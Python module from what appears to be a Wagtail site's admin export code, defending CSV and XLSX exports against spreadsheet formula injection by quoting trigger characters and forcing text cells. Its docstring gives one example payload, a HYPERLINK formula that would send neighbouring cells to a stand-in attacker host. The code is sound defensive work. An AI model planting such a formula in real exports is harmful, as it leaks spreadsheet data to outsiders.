"""Spreadsheet exports that a spreadsheet program never runs (CSV and XLSX formula injection).

Excel, LibreOffice Calc and Google Sheets read a CSV cell starting with ``=``, ``+``, ``-`` or
``@`` as a formula (a tab or a carriage return first does the same once trimmed): a fiche titled
``=HYPERLINK("https://evil.example/?"&A2, "Voir")`` would turn an export into a link that sends
its neighbours' cells away, or worse (« CSV injection », OWASP). Editors, importers and partners'
data write those texts; the staff who export them open the files.

The choices, for the admin's exports (fiches, reports, snippets: Wagtail's views through
``core/admin_exports.py``) and the results page's CSV:

- **CSV**: a text starting with one of ``FORMULA_TRIGGERS`` is written after a single quote
  (``'=HYPERLINK(…)``), OWASP's advice: every spreadsheet then shows a text, quote included.
  Only texts: a number written as a number (``-12``, a negative amount) stays a number, and a
  date stays a date. A text that already starts with quotes before a trigger (``'=x``) gets one
  more, so that ``restore_formula`` undoes ``neutralise_formula`` exactly: the guide's import
  reads its own export back unchanged.
- **XLSX**: a cell has a type, so no quote is added. A text is written as a text cell, never
  as a formula (openpyxl reads a string starting with ``=`` as one) nor an error value
  (``#N/A``), and one starting with a trigger is marked ``quotePrefix``, as Excel marks what a
  user types after a quote, so that editing the cell keeps it text. The value is the fiche's own.
- **Open data** (``opendata/``) is left as it is: its consumers are programs, the national
  schema validates the values, and a quote would change them (``docs/open-data.md``).
"""

import re

from openpyxl.cell import WriteOnlyCell

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A text a spreadsheet would run, behind as many quotes as it already has.
_NEUTRALISABLE = re.compile(r"'*[=+\-@\t\r]")
QUOTE = "'"


def neutralise_formula(value):
    """``value`` as a CSV cell: a text a spreadsheet would run, quoted; anything else as is."""
    if isinstance(value, str) and _NEUTRALISABLE.match(value):
        return QUOTE + value
    return value


def restore_formula(value):
    """The text ``neutralise_formula`` was given (or ``xlsx_text`` for a cell): one quote less
    before a trigger; anything else as is."""
    if isinstance(value, str) and value.startswith(QUOTE) and _NEUTRALISABLE.match(value, 1):
        return value[1:]
    return value


def xlsx_text(text):
    """The value of a text cell for ``text``: itself, with one more quote when it already starts
    with quotes before a trigger (``restore_formula`` gives it back)."""
    if text.startswith(QUOTE) and _NEUTRALISABLE.match(text):
        return QUOTE + text
    return text


def keep_as_text(cell):
    """A write-only cell holding a text: a text cell, quote-prefixed when it starts with a
    trigger. Returns the cell."""
    cell.data_type = "s"  # openpyxl inferred "f" (formula) for "=…" and "e" for "#N/A"
    if cell.value.startswith(FORMULA_TRIGGERS):
        cell.quotePrefix = True
    return cell


def text_cell(sheet, text):
    """A write-only cell of ``sheet`` holding ``text`` as text (for an export the guide's
    import reads back)."""
    return keep_as_text(WriteOnlyCell(sheet, value=xlsx_text(text)))
